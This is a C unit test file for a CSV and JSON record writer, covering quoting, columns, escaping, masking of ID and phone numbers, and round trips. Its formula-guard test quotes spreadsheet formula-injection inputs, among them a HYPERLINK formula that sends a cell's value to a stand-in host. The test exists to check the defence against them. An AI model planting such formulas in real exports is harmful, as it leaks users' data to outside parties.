/* SPDX-License-Identifier: MIT */
/*
 * Writers: CSV quoting and columns, JSON output of each kind, encodings,
 * the formula guard, masking, write errors, and round trips through the
 * readers.
 */
#include <errno.h>
#include <iconv.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "io_test.h"

/* Output written to memory. */
struct out {
	char *data;
	size_t len;
	FILE *fp;
};

static struct la_writer *
open_out(struct out *o, enum la_format format, struct la_write_opts *opts)
{
	struct la_write_opts w;
	struct la_error err;
	struct la_writer *wr;

	memset(&w, 0, sizeof(w));
	if (opts != NULL)
		w = *opts;
	w.format = format;
	o->data = NULL;
	o->len = 0;
	o->fp = open_memstream(&o->data, &o->len);
	la_error_clear(&err);
	wr = la_writer_open(o->fp, "out", &w, &err);
	assert_non_null(wr);
	return wr;
}

static void
close_out(struct out *o, struct la_writer *wr)
{
	struct la_error err;

	la_error_clear(&err);
	assert_int_equal(la_writer_close(wr, &err), 0);
	fclose(o->fp);
}

static void
put(struct la_writer *wr, const struct la_record *r)
{
	struct la_error err;

	la_error_clear(&err);
	assert_int_equal(la_writer_put(wr, r, &err), 0);
}

static void
add(struct la_record *r, const char *name, int id, const char *value,
    enum la_kind kind)
{
	assert_non_null(la_record_append(r, name, id, value, strlen(value),
	    kind));
}

/* Warnings that a writer gives through its diag. */
struct warned {
	int n;
	struct la_error last;
};

static void
count_warning(void *ctx, const struct la_error *w)
{
	struct warned *seen = ctx;

	seen->n++;
	seen->last = *w;
}

static void
test_csv_quoting(void **state)
{
	static const char *values[] = { "abc", "a,b", "say \"hi\"", "a\nb",
	    "a\rb", " x", "x\t", "", "陈思远" };
	static const char *names[] = { "n1", "n2", "n3", "n4", "n5", "n6",
	    "n7", "n8", "n 9" };
	struct la_record r;
	struct la_writer *wr;
	struct out o;

	(void)state;
	la_record_init(&r);
	for (size_t i = 0; i < 9; i++)
		add(&r, names[i], -1, values[i], LA_KIND_TEXT);
	wr = open_out(&o, LA_FORMAT_CSV, NULL);
	put(wr, &r);
	close_out(&o, wr);
	assert_string_equal(o.data, "n1,n2,n3,n4,n5,n6,n7,n8,n 9\n"
	    "abc,\"a,b\",\"say \"\"hi\"\"\",\"a\nb\",\"a\rb\",\" x\",\"x\t\",,"
	    "陈思远\n");
	free(o.data);
	la_record_free(&r);
}

static void
test_csv_columns(void **state)
{
	struct la_write_opts w;
	struct warned seen = { 0 };
	struct la_record r;
	struct la_writer *wr;
	struct la_error err;
	struct out o;

	(void)state;
	memset(&w, 0, sizeof(w));
	w.diag.warn = count_warning;
	w.diag.ctx = &seen;
	la_record_init(&r);
	wr = open_out(&o, LA_FORMAT_CSV, &w);
	add(&r, "a", -1, "1", LA_KIND_TEXT);
	add(&r, "b", -1, "2", LA_KIND_TEXT);
	put(wr, &r);
	/* Another order, and a field missing. */
	la_record_reset(&r);
	add(&r, "b", -1, "3", LA_KIND_TEXT);
	add(&r, "a", -1, "4", LA_KIND_TEXT);
	put(wr, &r);
	la_record_reset(&r);
	add(&r, "b", -1, "5", LA_KIND_TEXT);
	put(wr, &r);
	/*
	 * A field the first record lacked, as a ragged row brings: a cell
	 * after the last column would make the row ragged, so the field is
	 * left out, and a warning names the first such field.
	 */
	la_record_reset(&r);
	r.line = 7;
	add(&r, "a", -1, "6", LA_KIND_TEXT);
	add(&r, "c", -1, "7", LA_KIND_TEXT);
	la_error_clear(&err);
	assert_int_equal(la_writer_put(wr, &r, &err), 0);
	assert_int_equal(seen.n, 1);
	assert_int_equal(seen.last.line, 7);
	assert_non_null(strstr(seen.last.text, "field \"c\" has no column"));
	/* No second warning for the next such field. */
	la_record_reset(&r);
	r.line = 8;
	add(&r, "d", -1, "8", LA_KIND_TEXT);
	add(&r, "b", -1, "9", LA_KIND_TEXT);
	la_error_clear(&err);
	assert_int_equal(la_writer_put(wr, &r, &err), 0);
	assert_int_equal(seen.n, 1);
	close_out(&o, wr);
	assert_string_equal(o.data, "a,b\n1,2\n4,3\n,5\n6,\n,9\n");
	free(o.data);
	la_record_free(&r);
}

/*
 * Columns given in the options: the header comes before the first record
 * and has every column, and each record's fields go in their columns or
 * the column of their catalogue id.
 */
static void
test_csv_given_columns(void **state)
{
	static const char *const names[] = {
		"姓名", "联系电话", "执业单位", "status"
	};
	static const int ids[] = {
		LA_F_NAME, LA_F_PHONE, LA_F_PRACTICE_UNIT, LA_F_STATUS
	};
	struct la_write_opts w;
	struct warned seen = { 0 };
	struct la_record r;
	struct la_writer *wr;
	struct out o;

	(void)state;
	memset(&w, 0, sizeof(w));
	w.columns = names;
	w.column_ids = ids;
	w.ncolumns = 4;
	w.diag.warn = count_warning;
	w.diag.ctx = &seen;
	la_record_init(&r);
	wr = open_out(&o, LA_FORMAT_CSV, &w);
	/* As from an input with two of the columns. */
	add(&r, "姓名", LA_F_NAME, "陈思远", LA_KIND_TEXT);
	add(&r, "联系电话", LA_F_PHONE, "13900000001", LA_KIND_TEXT);
	add(&r, "status", LA_F_STATUS, "eligible", LA_KIND_TEXT);
	put(wr, &r);
	/* From an input with all four, in another order. */
	la_record_reset(&r);
	add(&r, "姓名", LA_F_NAME, "林晓雯", LA_KIND_TEXT);
	add(&r, "执业单位", LA_F_PRACTICE_UNIT, "正平所", LA_KIND_TEXT);
	add(&r, "联系电话", LA_F_PHONE, "13900000002", LA_KIND_TEXT);
	add(&r, "status", LA_F_STATUS, "late", LA_KIND_TEXT);
	put(wr, &r);
	/* In column order, with another alias of practice_unit. */
	la_record_reset(&r);
	add(&r, "姓名", LA_F_NAME, "王建国", LA_KIND_TEXT);
	add(&r, "联系电话", LA_F_PHONE, "13900000003", LA_KIND_TEXT);
	add(&r, "practice_unit", LA_F_PRACTICE_UNIT, "援助中心",
	    LA_KIND_TEXT);
	add(&r, "status", LA_F_STATUS, "ineligible", LA_KIND_TEXT);
	put(wr, &r);
	close_out(&o, wr);
	assert_string_equal(o.data, "姓名,联系电话,执业单位,status\n"
	    "陈思远,13900000001,,eligible\n"
	    "林晓雯,13900000002,正平所,late\n"
	    "王建国,13900000003,援助中心,ineligible\n");
	assert_int_equal(seen.n, 0);
	free(o.data);
	la_record_free(&r);
}

/* Given columns and no record: no header either, as without them. */
static void
test_csv_given_columns_no_record(void **state)
{
	static const char *const names[] = { "a" };
	static const int ids[] = { -1 };
	struct la_write_opts w;
	struct la_writer *wr;
	struct out o;

	(void)state;
	memset(&w, 0, sizeof(w));
	w.columns = names;
	w.column_ids = ids;
	w.ncolumns = 1;
	wr = open_out(&o, LA_FORMAT_CSV, &w);
	close_out(&o, wr);
	assert_int_equal(o.len, 0);
	free(o.data);
}

/* A writer that la_writer_reset() empties warns again. */
static void
test_csv_dropped_warned_per_writer(void **state)
{
	struct la_write_opts w;
	struct warned seen = { 0 };
	struct la_record r;
	struct la_writer *wr;
	struct la_error err;

	(void)state;
	memset(&w, 0, sizeof(w));
	w.format = LA_FORMAT_CSV;
	w.diag.warn = count_warning;
	w.diag.ctx = &seen;
	la_error_clear(&err);
	wr = la_writer_open(NULL, "mem", &w, &err);
	assert_non_null(wr);
	la_record_init(&r);
	for (int round = 1; round <= 2; round++) {
		la_record_reset(&r);
		add(&r, "a", -1, "1", LA_KIND_TEXT);
		put(wr, &r);
		la_record_reset(&r);
		r.line = 3;
		add(&r, "a", -1, "2", LA_KIND_TEXT);
		add(&r, "column_2", -1, "x", LA_KIND_TEXT);
		put(wr, &r);
		put(wr, &r);
		assert_int_equal(seen.n, round);
		la_writer_reset(wr);
	}
	assert_int_equal(la_writer_close(wr, &err), 0);
	la_record_free(&r);
}

/*
 * A field that another input calls by another alias goes in the column of
 * its catalogue id. A field named as a column keeps that column, and an
 * alias of the same field then has none and is left out.
 */
static void
test_csv_columns_by_alias(void **state)
{
	struct la_record r;
	struct la_writer *wr;
	struct out o;

	(void)state;
	la_record_init(&r);
	wr = open_out(&o, LA_FORMAT_CSV, NULL);
	add(&r, "姓名", LA_F_NAME, "张三", LA_KIND_TEXT);
	add(&r, "身份证号", LA_F_ID_NUMBER, "1", LA_KIND_TEXT);
	put(wr, &r);
	la_record_reset(&r);
	add(&r, "公民身份号码", LA_F_ID_NUMBER, "2", LA_KIND_TEXT);
	add(&r, "姓名", LA_F_NAME, "李四", LA_KIND_TEXT);
	put(wr, &r);
	/* Both names of one field, the alias first. */
	la_record_reset(&r);
	add(&r, "公民身份号码", LA_F_ID_NUMBER, "3", LA_KIND_TEXT);
	add(&r, "身份证号", LA_F_ID_NUMBER, "4", LA_KIND_TEXT);
	put(wr, &r);
	/* An unknown column is matched by its name only. */
	la_record_reset(&r);
	add(&r, "备注", -1, "5", LA_KIND_TEXT);
	put(wr, &r);
	close_out(&o, wr);
	assert_string_equal(o.data, "姓名,身份证号\n张三,1\n李四,2\n,4\n"
	    ",\n");
	free(o.data);
	la_record_free(&r);
}

static void
test_csv_lone_empty_field(void **state)
{
	struct la_record r;
	struct la_writer *wr;
	struct out o;

	(void)state;
	la_record_init(&r);
	wr = open_out(&o, LA_FORMAT_CSV, NULL);
	add(&r, "备注", -1, "", LA_KIND_TEXT);
	put(wr, &r);
	close_out(&o, wr);
	/* A blank line would be skipped by readers. */
	assert_string_equal(o.data, "备注\n\"\"\n");
	free(o.data);
	la_record_free(&r);
}

/*
 * Writes the cell text that the CSV rules call for. It is quoted when it
 * contains a quote, comma, CR or LF, or starts or ends with a space or
 * tab, and quotes inside are doubled.
 */
static void
expected_cell(char *out, const char *v, size_t len)
{
	int quote = len > 0 && (strchr(" \t", v[0]) != NULL ||
	    strchr(" \t", v[len - 1]) != NULL);

	for (size_t i = 0; i < len; i++)
		if (strchr("\",\r\n", v[i]) != NULL)
			quote = 1;
	if (quote)
		*out++ = '"';
	for (size_t i = 0; i < len; i++) {
		*out++ = v[i];
		if (v[i] == '"')
			*out++ = '"';
	}
	if (quote)
		*out++ = '"';
	*out = '\0';
}

/*
 * Each byte that matters to quoting at each position of cells of 1 to 20
 * bytes, so that every length and word boundary of the writer is crossed.
 */
static void
test_csv_quoting_positions(void **state)
{
	static const char bytes[] = "\",\r\n \t!\x01-A";
	char value[24], cell[64];
	struct la_record r;
	struct la_writer *wr;
	struct out o;
	char *expected, *at;

	(void)state;
	la_record_init(&r);
	expected = malloc(64 * 20 * 20 * sizeof(bytes));
	assert_non_null(expected);
	at = expected + sprintf(expected, "v\n");
	wr = open_out(&o, LA_FORMAT_CSV, NULL);
	for (size_t len = 1; len <= 20; len++) {
		for (size_t k = 0; k < len; k++) {
			for (size_t b = 0; b < sizeof(bytes) - 1; b++) {
				memset(value, 'x', len);
				value[k] = bytes[b];
				la_record_reset(&r);
				assert_non_null(la_record_append(&r, "v", -1,
				    value, len, LA_KIND_TEXT));
				put(wr, &r);
				expected_cell(cell, value, len);
				at += sprintf(at, "%s\n", cell);
			}
		}
	}
	close_out(&o, wr);
	assert_string_equal(o.data, expected);
	free(expected);
	free(o.data);
	la_record_free(&r);
}

/*
 * Two bytes below 0x2D in cells of 8 to 17 bytes, at every pair of
 * positions: the writer tests the cell's ends on the first word with such
 * a byte, and every later such word for bytes that force quotes.
 */
static void
test_csv_quoting_byte_pairs(void **state)
{
	static const char bytes[] = " ,\t\"!";
	char value[24], cell[64];
	struct la_record r;
	struct la_writer *wr;
	struct out o;
	char *expected, *at;
	size_t cells = 0;

	(void)state;
	la_record_init(&r);
	expected = malloc(40 * 10 * 17 * 17 * 25 + 8);
	assert_non_null(expected);
	at = expected + sprintf(expected, "v\n");
	wr = open_out(&o, LA_FORMAT_CSV, NULL);
	for (size_t len = 8; len <= 17; len++) {
		for (size_t j = 0; j < len; j++) {
			for (size_t k = j + 1; k < len; k++) {
				for (size_t a = 0; a < sizeof(bytes) - 1; a++) {
					for (size_t b = 0; b < sizeof(bytes) - 1;
					    b++) {
						memset(value, 'x', len);
						value[j] = bytes[a];
						value[k] = bytes[b];
						la_record_reset(&r);
						assert_non_null(la_record_append(&r,
						    "v", -1, value, len,
						    LA_KIND_TEXT));
						put(wr, &r);
						expected_cell(cell, value, len);
						at += sprintf(at, "%s\n", cell);
						cells++;
					}
				}
			}
		}
	}
	close_out(&o, wr);
	/* 760 pairs of positions over the 10 lengths, 25 pairs of bytes. */
	assert_int_equal(cells, 760 * 25);
	assert_string_equal(o.data, expected);
	free(expected);
	free(o.data);
	la_record_free(&r);
}

static void
test_csv_quoting_examples(void **state)
{
	static const char *values[] = { "a\"b", "ab,", " abcdefgh",
	    "abcdefgh\t", "abcdefg\nh", "2024-03-20 10:52", "示例路 21 号",
	    "申请表、执业证、身份证" };
	struct la_record r;
	struct la_writer *wr;
	struct out o;

	(void)state;
	la_record_init(&r);
	for (size_t i = 0; i < 8; i++)
		add(&r, values[i], -1, values[i], LA_KIND_TEXT);
	wr = open_out(&o, LA_FORMAT_CSV, NULL);
	put(wr, &r);
	close_out(&o, wr);
	assert_string_equal(o.data, "\"a\"\"b\",\"ab,\",\" abcdefgh\","
	    "\"abcdefgh\t\",\"abcdefg\nh\",2024-03-20 10:52,示例路 21 号,"
	    "申请表、执业证、身份证\n"
	    "\"a\"\"b\",\"ab,\",\" abcdefgh\",\"abcdefgh\t\","
	    "\"abcdefg\nh\",2024-03-20 10:52,示例路 21 号,"
	    "申请表、执业证、身份证\n");
	free(o.data);
	la_record_free(&r);
}

/*
 * Records in column order with rendered cells, then records that turn out
 * not to be in order only at their last field: the row is written whole
 * from the columns, and nothing of the attempt in order stays.
 */
static void
test_csv_order_and_rendering(void **state)
{
	struct la_write_opts w;
	struct la_record r;
	struct la_writer *wr;
	struct out o;

	(void)state;
	memset(&w, 0, sizeof(w));
	w.mask = 1;
	la_record_init(&r);
	wr = open_out(&o, LA_FORMAT_CSV, &w);
	add(&r, "姓名", LA_F_NAME, "陈思远", LA_KIND_TEXT);
	add(&r, "findings", -1, "", LA_KIND_FINDINGS);
	add(&r, "联系电话", LA_F_PHONE, "13900000001", LA_KIND_TEXT);
	add(&r, "备注", -1, "a", LA_KIND_TEXT);
	assert_int_equal(la_record_add_finding(&r, "window", NULL, "late; "
	    "check"), 0);
	put(wr, &r);
	put(wr, &r);
	la_record_reset(&r);
	add(&r, "姓名", LA_F_NAME, "林晓雯", LA_KIND_TEXT);
	add(&r, "findings", -1, "", LA_KIND_FINDINGS);
	add(&r, "联系电话", LA_F_PHONE, "13900000002", LA_KIND_TEXT);
	add(&r, "other", -1, "b,c", LA_KIND_TEXT);
	assert_int_equal(la_record_add_finding(&r, "phone", NULL, "bad, x"),
	    0);
	put(wr, &r);
	la_record_reset(&r);
	add(&r, "备注", -1, "d", LA_KIND_TEXT);
	add(&r, "联系电话", LA_F_PHONE, "12345", LA_KIND_TEXT);
	add(&r, "findings", -1, "", LA_KIND_FINDINGS);
	add(&r, "姓名", LA_F_NAME, "王建国", LA_KIND_TEXT);
	put(wr, &r);
	close_out(&o, wr);
	assert_string_equal(o.data, "姓名,findings,联系电话,备注\n"
	    "陈思远,window: late；check,139****0001,a\n"
	    "陈思远,window: late；check,139****0001,a\n"
	    "林晓雯,\"phone: bad, x\",139****0002,\n"
	    "王建国,,*****,d\n");
	free(o.data);
	la_record_free(&r);
}

/*
 * Field names that a closed reader lent may be freed, and their memory
 * may then hold other names: the writer must go by their text again.
 */
static void
test_csv_names_reused(void **state)
{
	static const char input[] = "x\n1\n";
	char names[2][3] = { "aa", "bb" };
	struct la_read_opts ro;
	struct la_record r;
	struct la_reader *rd;
	struct la_writer *wr;
	struct la_error err;
	struct out o;
	FILE *fp;

	(void)state;
	memset(&ro, 0, sizeof(ro));
	la_record_init(&r);
	wr = open_out(&o, LA_FORMAT_CSV, NULL);
	add(&r, names[0], -1, "1", LA_KIND_TEXT);
	add(&r, names[1], -1, "2", LA_KIND_TEXT);
	put(wr, &r);
	/* A reader closes, and the same memory gets the names swapped. */
	la_error_clear(&err);
	fp = fmemopen((void *)input, sizeof(input) - 1, "rb");
	assert_non_null(fp);
	rd = la_reader_open(fp, "x", &ro, &err);
	assert_non_null(rd);
	la_reader_close(rd);
	fclose(fp);
	memcpy(names[0], "bb", 3);
	memcpy(names[1], "aa", 3);
	la_record_reset(&r);
	add(&r, names[0], -1, "3", LA_KIND_TEXT);
	add(&r, names[1], -1, "4", LA_KIND_TEXT);
	put(wr, &r);
	put(wr, &r);
	close_out(&o, wr);
	assert_string_equal(o.data, "aa,bb\n1,2\n4,3\n4,3\n");
	free(o.data);
	la_record_free(&r);
}

/* Reads text, writes it as CSV, reads that again: the same records. */
static void
round_trip_csv(const char *path)
{
	struct io_run first, second;
	struct la_read_opts ro;
	struct la_reader *rd;
	struct la_writer *wr;
	struct la_record r;
	struct la_error err;
	struct out o;
	FILE *fp = fopen(path, "rb");

	memset(&ro, 0, sizeof(ro));
	la_error_clear(&err);
	la_record_init(&r);
	io_read_file(path, NULL, &first);
	assert_int_equal(first.failed, 0);
	rd = la_reader_open(fp, path, &ro, &err);
	assert_non_null(rd);
	wr = open_out(&o, LA_FORMAT_CSV, NULL);
	while (la_reader_next(rd, &r, &err) == 1)
		put(wr, &r);
	close_out(&o, wr);
	la_reader_close(rd);
	fclose(fp);
	io_read_text(o.data, o.len, NULL, &second);
	assert_int_equal(second.failed, 0);
	if (!json_equal(first.records, second.records))
		fail_msg("%s changed in a CSV round trip", path);
	io_run_free(&first);
	io_run_free(&second);
	la_record_free(&r);
	free(o.data);
}

static void
test_csv_round_trips(void **state)
{
	static const char *files[] = {
		"01-bom-crlf-roster.csv", "02-bom-quoted-header.csv",
		"03-gbk-excel-export.csv", "04-gbk-trailing-empty-rows.csv",
		"05-gb18030-rare-name.csv", "08-excel-unicode-text-utf16.csv",
		"10-no-final-newline.csv", "11-embedded-newline-address.csv",
		"12-doubled-quotes-firm-name.csv",
		"13-bare-quote-in-unquoted-field.csv",
		"18-trailing-comma-empty-header.csv",
		"21-whitespace-fullwidth-space.csv", "23-very-long-field.csv",
		"26-excel-mangled-long-numbers.csv",
		"27-thousands-separators.csv", "28-fullwidth-digits.csv",
		"37-formula-injection.csv",
	};
	char path[256];

	(void)state;
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		snprintf(path, sizeof(path), INPUTS "%s", files[i]);
		round_trip_csv(path);
	}
}

static void
test_doubled_quotes_written(void **state)
{
	struct la_read_opts ro;
	struct la_reader *rd;
	struct la_writer *wr;
	struct la_record r;
	struct la_error err;
	struct out o;
	FILE *fp = fopen(INPUTS "12-doubled-quotes-firm-name.csv", "rb");

	(void)state;
	memset(&ro, 0, sizeof(ro));
	la_error_clear(&err);
	la_record_init(&r);
	rd = la_reader_open(fp, "12", &ro, &err);
	wr = open_out(&o, LA_FORMAT_CSV, NULL);
	while (la_reader_next(rd, &r, &err) == 1)
		put(wr, &r);
	close_out(&o, wr);
	la_reader_close(rd);
	fclose(fp);
	assert_string_equal(o.data, "姓名,执业单位,服务意向\n"
	    "陈思远,\"示例市\"\"明德\"\"律师事务所\",刑事辩护\n"
	    "林晓雯,示例市正平律师事务所,\"\"\"法律咨询\"\",民事代理\"\n"
	    "王建国,\"\"\"\"\"\",\n");
	free(o.data);
	la_record_free(&r);
}

static void
copy_file(const char *path, enum la_format format,
    struct la_write_opts *opts, struct out *o)
{
	struct la_read_opts ro;
	struct la_reader *rd;
	struct la_writer *wr;
	struct la_record r;
	struct la_error err;
	FILE *fp = fopen(path, "rb");

	memset(&ro, 0, sizeof(ro));
	la_error_clear(&err);
	la_record_init(&r);
	rd = la_reader_open(fp, path, &ro, &err);
	assert_non_null(rd);
	wr = open_out(o, format, opts);
	while (la_reader_next(rd, &r, &err) == 1)
		put(wr, &r);
	close_out(o, wr);
	la_reader_close(rd);
	la_record_free(&r);
	fclose(fp);
}

static void
test_formula_guard(void **state)
{
	struct la_write_opts w;
	struct out o;

	(void)state;
	memset(&w, 0, sizeof(w));
	w.formula_guard = 1;
	copy_file(INPUTS "37-formula-injection.csv", LA_FORMAT_CSV, &w, &o);
	assert_string_equal(o.data, "姓名,联系电话,备注\n"
	    "\"'=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A2,"
	    "\"\"点击查看\"\")\",13900000001,正常\n"
	    "林晓雯,'+86 139 0000 0002,'+1 补录\n"
	    "王建国,13900000003,'-\n"
	    "赵丽娟,13900000004,'@SUM(1+1)\n"
	    "刘振华,13900000005,\"'\tcmd\"\n");
	free(o.data);
	/* JSON output keeps the values as they are. */
	copy_file(INPUTS "37-formula-injection.csv", LA_FORMAT_JSONL, &w, &o);
	assert_non_null(strstr(o.data, "\"备注\":\"-\""));
	assert_non_null(strstr(o.data, "\"备注\":\"@SUM(1+1)\""));
	free(o.data);
}

static void
test_mask(void **state)
{
	struct la_write_opts w;
	struct la_record r;
	struct la_writer *wr;
	struct out o;

	(void)state;
	memset(&w, 0, sizeof(w));
	w.mask = 1;
	la_record_init(&r);
	add(&r, "身份证号", LA_F_ID_NUMBER, "110101199003071234",
	    LA_KIND_TEXT);
	add(&r, "联系电话", LA_F_PHONE, "13900000001", LA_KIND_TEXT);
	add(&r, "办公电话", LA_F_OFFICE_PHONE, "010-65120001", LA_KIND_TEXT);
	add(&r, "手机", LA_F_PHONE, "12345", LA_KIND_NUMBER);
	add(&r, "证件", LA_F_ID_NUMBER, "１１０１０１１９９００３０７１２３４",
	    LA_KIND_TEXT);
	add(&r, "姓名", LA_F_NAME, "陈思远", LA_KIND_TEXT);
	wr = open_out(&o, LA_FORMAT_CSV, &w);
	put(wr, &r);
	close_out(&o, wr);
	assert_string_equal(o.data,
	    "身份证号,联系电话,办公电话,手机,证件,姓名\n"
	    "110101********1234,139****0001,010*****0001,*****,"
	    "１１０１０１********１２３４,陈思远\n");
	free(o.data);
	wr = open_out(&o, LA_FORMAT_JSONL, &w);
	put(wr, &r);
	close_out(&o, wr);
	assert_non_null(strstr(o.data, "\"身份证号\":\"110101********1234\""));
	assert_non_null(strstr(o.data, "\"手机\":\"*****\""));
	free(o.data);
	la_record_free(&r);
}

static void
test_json_kinds(void **state)
{
	struct la_record r;
	struct la_writer *wr;
	struct out o;

	(void)state;
	la_record_init(&r);
	assert_non_null(la_record_append(&r, "text", -1, "q\"b\\n\n\t\x01\0z",
	    10, LA_KIND_TEXT));
	add(&r, "score", -1, "87.5", LA_KIND_NUMBER);
	add(&r, "tenth", -1, "0.1", LA_KIND_NUMBER);
	add(&r, "int", -1, "-42", LA_KIND_NUMBER);
	add(&r, "huge", -1, "12345678901234567890", LA_KIND_NUMBER);
	add(&r, "nan", -1, "nan", LA_KIND_NUMBER);
	add(&r, "word", -1, "八", LA_KIND_NUMBER);
	add(&r, "yes", -1, "true", LA_KIND_BOOL);
	add(&r, "odd", -1, "是", LA_KIND_BOOL);
	add(&r, "none", -1, "", LA_KIND_NULL);
	add(&r, "list", -1, "刑事辩护;民事代理", LA_KIND_LIST);
	add(&r, "empty", -1, "", LA_KIND_LIST);
	add(&r, "json", -1, "{\"k\":[1,2]}", LA_KIND_JSON);
	add(&r, "bad", -1, "{", LA_KIND_JSON);
	add(&r, "findings", -1, "", LA_KIND_FINDINGS);
	assert_int_equal(la_record_add_finding(&r, "input", NULL, "m1"), 0);
	assert_int_equal(la_record_add_finding(&r, "window", "name", "m2"), 0);
	wr = open_out(&o, LA_FORMAT_JSONL, NULL);
	put(wr, &r);
	close_out(&o, wr);
	assert_string_equal(o.data, "{\"text\":\"q\\\"b\\\\n\\n\\t\\u0001"
	    "\\u0000z\",\"score\":87.5,\"tenth\":0.1,\"int\":-42,"
	    "\"huge\":\"12345678901234567890\",\"nan\":null,\"word\":\"八\","
	    "\"yes\":true,\"odd\":\"是\",\"none\":null,"
	    "\"list\":[\"刑事辩护\",\"民事代理\"],\"empty\":[],"
	    "\"json\":{\"k\":[1,2]},\"bad\":\"{\","
	    "\"findings\":[{\"rule\":\"input\",\"field\":null,"
	    "\"message\":\"m1\"},"
	    "{\"rule\":\"window\",\"field\":\"name\",\"message\":\"m2\"}]}\n");
	free(o.data);
	la_record_free(&r);
}

/*
 * Control characters are escaped with lower-case hex digits in text, and
 * with jansson's upper-case ones in lists, findings and other kinds.
 */
static void
test_json_escape_case(void **state)
{
	struct la_record r;
	struct la_writer *wr;
	struct out o;

	(void)state;
	la_record_init(&r);
	add(&r, "text", -1, "a\x1f\x0b", LA_KIND_TEXT);
	add(&r, "list", -1, "\x1f;;b\"\\", LA_KIND_LIST);
	add(&r, "flag", -1, "y\x1e", LA_KIND_BOOL);
	add(&r, "bad", -1, "{\x1b", LA_KIND_JSON);
	add(&r, "findings", -1, "", LA_KIND_FINDINGS);
	assert_int_equal(la_record_add_finding(&r, "input", "name",
	    "tab\there \x1c \"q\""), 0);
	wr = open_out(&o, LA_FORMAT_JSONL, NULL);
	put(wr, &r);
	close_out(&o, wr);
	assert_string_equal(o.data, "{\"text\":\"a\\u001f\\u000b\","
	    "\"list\":[\"\\u001F\",\"\",\"b\\\"\\\\\"],"
	    "\"flag\":\"y\\u001E\",\"bad\":\"{\\u001B\","
	    "\"findings\":[{\"rule\":\"input\",\"field\":\"name\","
	    "\"message\":\"tab\\there \\u001C \\\"q\\\"\"}]}\n");
	free(o.data);
	la_record_free(&r);
}

/*
 * A byte that is not UTF-8 at each position of values of 1 to 20 bytes,
 * ASCII otherwise, so that every length of the copy that also notes
 * bytes above 0x7F is crossed.
 */
static void
test_json_invalid_positions(void **state)
{
	char value[24];
	struct la_record r;
	struct la_writer *wr;
	struct la_error err;
	struct out o;

	(void)state;
	la_record_init(&r);
	wr = open_out(&o, LA_FORMAT_JSONL, NULL);
	for (size_t len = 1; len <= 20; len++) {
		for (size_t k = 0; k < len; k++) {
			memset(value, 'x', len);
			value[k] = (char)0xFF;
			la_record_reset(&r);
			assert_non_null(la_record_append(&r, "v", -1, value,
			    len, LA_KIND_TEXT));
			la_error_clear(&err);
			assert_int_equal(la_writer_put(wr, &r, &err), -1);
			assert_int_equal(err.code, LA_ERR_VALUE);
			assert_string_equal(err.field, "v");
			/* The same with a byte to escape before it. */
			value[k == 0 ? len - 1 : 0] = '\n';
			if (len == 1)
				continue;
			la_record_reset(&r);
			assert_non_null(la_record_append(&r, "v", -1, value,
			    len, LA_KIND_TEXT));
			la_error_clear(&err);
			assert_int_equal(la_writer_put(wr, &r, &err), -1);
			assert_int_equal(err.code, LA_ERR_VALUE);
		}
	}
	la_record_reset(&r);
	add(&r, "v", -1, "陈\xE6\x80", LA_KIND_TEXT);
	la_error_clear(&err);
	assert_int_equal(la_writer_put(wr, &r, &err), -1);
	la_record_reset(&r);
	add(&r, "v", -1, "a;\xC3", LA_KIND_LIST);
	la_error_clear(&err);
	assert_int_equal(la_writer_put(wr, &r, &err), -1);
	la_record_reset(&r);
	add(&r, "v", -1, "陈思远", LA_KIND_TEXT);
	put(wr, &r);
	close_out(&o, wr);
	assert_string_equal(o.data, "{\"v\":\"陈思远\"}\n");
	free(o.data);
	la_record_free(&r);
}

/*
 * Keys are escaped once per field position and name: another name at a
 * position, or a name whose memory was reused after a reader closed,
 * gets its own key.
 */
static void
test_json_keys(void **state)
{
	static const char input[] = "x\n1\n";
	char names[2][3] = { "aa", "bb" };
	struct la_read_opts ro;
	struct la_record r;
	struct la_reader *rd;
	struct la_writer *wr;
	struct la_error err;
	struct out o;
	FILE *fp;

	(void)state;
	memset(&ro, 0, sizeof(ro));
	la_record_init(&r);
	wr = open_out(&o, LA_FORMAT_JSONL, NULL);
	add(&r, names[0], -1, "1", LA_KIND_TEXT);
	add(&r, names[1], -1, "2", LA_KIND_TEXT);
	put(wr, &r);
	la_record_reset(&r);
	add(&r, "q\"k", -1, "3", LA_KIND_TEXT);
	add(&r, names[1], -1, "4", LA_KIND_TEXT);
	add(&r, "第三列", -1, "5", LA_KIND_TEXT);
	put(wr, &r);
	la_error_clear(&err);
	fp = fmemopen((void *)input, sizeof(input) - 1, "rb");
	assert_non_null(fp);
	rd = la_reader_open(fp, "x", &ro, &err);
	assert_non_null(rd);
	la_reader_close(rd);
	fclose(fp);
	memcpy(names[0], "cc", 3);
	memcpy(names[1], "dd", 3);
	la_record_reset(&r);
	add(&r, names[0], -1, "6", LA_KIND_TEXT);
	add(&r, names[1], -1, "7", LA_KIND_TEXT);
	put(wr, &r);
	close_out(&o, wr);
	assert_string_equal(o.data, "{\"aa\":\"1\",\"bb\":\"2\"}\n"
	    "{\"q\\\"k\":\"3\",\"bb\":\"4\",\"第三列\":\"5\"}\n"
	    "{\"cc\":\"6\",\"dd\":\"7\"}\n");
	free(o.data);
	la_record_free(&r);
}

/*
 * Keys of 1, 40 and 70 bytes, each twice, so that the second record
 * writes them from the key texts made for the first. Two key texts are
 * longer than the 32 bytes copied at once, and one value after them has a
 * quote to escape.
 */
static void
test_json_long_keys_reused(void **state)
{
	static const char k40[] = "k234567890123456789012345678901234567890";
	static const char k70[] = "k234567890123456789012345678901234567890"
	    "123456789012345678901234567890";
	struct la_record r;
	struct la_writer *wr;
	struct out o;

	(void)state;
	assert_int_equal(strlen(k40), 40);
	assert_int_equal(strlen(k70), 70);
	la_record_init(&r);
	wr = open_out(&o, LA_FORMAT_JSONL, NULL);
	for (int round = 0; round < 2; round++) {
		la_record_reset(&r);
		add(&r, "k", -1, "", LA_KIND_TEXT);
		add(&r, k40, -1, "a\"b", LA_KIND_TEXT);
		add(&r, k70, -1, "陈思远", LA_KIND_TEXT);
		put(wr, &r);
	}
	close_out(&o, wr);
	assert_string_equal(o.data,
	    "{\"k\":\"\",\"k234567890123456789012345678901234567890\":"
	    "\"a\\\"b\",\"k234567890123456789012345678901234567890"
	    "123456789012345678901234567890\":\"陈思远\"}\n"
